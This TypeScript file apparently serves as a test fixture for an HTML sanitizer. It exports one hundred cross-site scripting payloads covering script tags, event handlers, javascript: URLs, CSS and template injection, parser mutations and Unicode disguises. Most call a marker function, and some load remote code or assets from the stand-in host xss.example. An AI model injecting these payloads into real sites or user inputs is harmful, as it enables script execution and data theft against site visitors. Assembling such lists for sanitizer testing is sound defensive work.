/*
 * One hundred texts that try to become something else than text, by the door they try. Each fits a name (100 characters),
 * and each would call `__xss`, ask another host or leave an element behind where it got through.
 */

const scripts = [
  '<script>__xss(1)</script>',
  '<SCRIPT/x>__xss(1)</SCRIPT>',
  '<script src=//xss.example/a.js></script>',
  '<scr<script>ipt>__xss(1)</scr</script>ipt>',
  '<script type=module>__xss(1)</script>',
  '<script\n>__xss(1)</script\n>',
  '"><script>__xss(1)</script>',
  "'><script>__xss(1)</script>",
  '</title><script>__xss(1)</script>',
  '</textarea><script>__xss(1)</script>',
  '</style><script>__xss(1)</script>',
  '--><script>__xss(1)</script><!--',
  ']]><script>__xss(1)</script>',
  '<svg><script>__xss(1)</script></svg>',
  '<svg><script>&#95;&#95;xss(1)</script></svg>',
  '<svg><script href=data:,__xss(1) /></svg>',
];

const handlers = [
  '<img src=x onerror=__xss(1)>',
  '<img src=x onerror="__xss(1)">',
  '<IMG SRC=x OnErRoR=__xss(1)>',
  '<img/src=x/onerror=__xss(1)>',
  '<img src=x\tonerror\n=__xss(1)>',
  '<img src=`x`onerror=__xss(1)>',
  '<img src=x onerror=__xss`1`>',
  '<img src=x onerror=&#95;&#95;xss(1)>',
  '<img src=x onerror=\\u005f_xss(1)>',
  '"><img src=x onerror=__xss(1)>',
  "'><img src=x onerror=__xss(1)>",
  '" onfocus=__xss(1) autofocus x="',
  "' onfocus=__xss(1) autofocus x='",
  '" onmouseover="__xss(1)" x="',
  '<svg onload=__xss(1)>',
  '<svg/onload=__xss(1)//',
  '<body onload=__xss(1)>',
  '<details open ontoggle=__xss(1)>',
  '<input onfocus=__xss(1) autofocus>',
  '<select onfocus=__xss(1) autofocus>',
  '<video src=x onerror=__xss(1)></video>',
  '<video><source onerror=__xss(1)></video>',
  '<audio src onerror=__xss(1)>',
  '<marquee onstart=__xss(1)>x</marquee>',
  '<object data=x onerror=__xss(1)>',
  '<a id=x tabindex=1 onfocus=__xss(1) autofocus>x</a>',
  '<style onload=__xss(1)></style>',
  '<svg><animate onbegin=__xss(1) attributeName=x dur=1s>',
  '<svg><set onbegin=__xss(1) attributeName=x to=0>',
  '<p style=animation:pending onanimationstart=__xss(1)>x',
];

const addresses = [
  'javascript:__xss(1)',
  'JaVaScRiPt:__xss(1)',
  'java\tscript:__xss(1)',
  'javascript://%0a__xss(1)',
  'data:text/html,<script>__xss(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5fX3hzcygxKTwvc2NyaXB0Pg==',
  'vbscript:__xss(1)',
  '<a href=javascript:__xss(1)>x</a>',
  '<a href="java&#10;script:__xss(1)">x</a>',
  '<iframe src=javascript:__xss(1)></iframe>',
  '<iframe srcdoc="<script>parent.__xss(1)</script>">',
  '<embed src=javascript:__xss(1)>',
  '<object data=javascript:__xss(1)></object>',
  '<form action=javascript:__xss(1)><button>x</button></form>',
  '<button formaction=javascript:__xss(1)>x</button>',
  '<base href=//xss.example/>',
  '<meta http-equiv=refresh content=0;url=//xss.example/>',
  '<link rel=stylesheet href=//xss.example/a.css>',
  '<img src=//xss.example/a.png>',
  '<iframe src=//xss.example/></iframe>',
];

const styles = [
  '<style>@import "//xss.example/a.css";</style>',
  '<p style="background:url(//xss.example/a.png)">x</p>',
  '</style><style>body{background:url(//xss.example/b)}',
  '};body{background:url(//xss.example/c)}',
  'x;background-image:url(//xss.example/d)',
  'expression(__xss(1))',
];

const templates = [
  '{{constructor.constructor("__xss(1)")()}}',
  '${__xss(1)}',
  '#{__xss(1)}',
  '<%= __xss(1) %>',
  '[[${__xss(1)}]]',
  '{"__html":"<img src=x onerror=__xss(1)>"}',
  '[x](javascript:__xss(1))',
  '![x](//xss.example/a.png)',
];

const state = [
  '</script><script>__xss(1)</script>',
  '</script ><img src=x onerror=__xss(1)>',
  '<!--<script>__xss(1)//--></script>',
  '"};__xss(1);//',
  "'-__xss(1)-'",
  '\\";__xss(1);//',
  'x\u2028__xss(1)\u2029//',
  '\\u003cscript\\u003e__xss(1)\\u003c/script\\u003e',
];

const mutations = [
  '<noscript><p title="</noscript><img src=x onerror=__xss(1)>">',
  '<svg></p><style><a id="</style><img src=x onerror=__xss(1)>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=__xss(1)>',
  '<template><img src=x onerror=__xss(1)></template>',
  '<listing>&lt;img src=x onerror=__xss(1)&gt;</listing>',
  '&lt;img src=x onerror=__xss(1)&gt;',
  '&amp;lt;script&amp;gt;__xss(1)&amp;lt;/script&amp;gt;',
];

const disguises = [
  '\u202e<script>__xss(1)</script>\u202c',
  '<scr\u200bipt>__xss(1)</script>',
  '<img src=x\u200b onerror=__xss(1)>',
  '\uff1cscript\uff1e__xss(1)\uff1c/script\uff1e',
  '+ADw-script+AD4-__xss(1)+ADw-/script+AD4-',
];

/** All hundred. */
export const payloads: readonly string[] = [
  ...scripts,
  ...handlers,
  ...addresses,
  ...styles,
  ...templates,
  ...state,
  ...mutations,
  ...disguises,
];
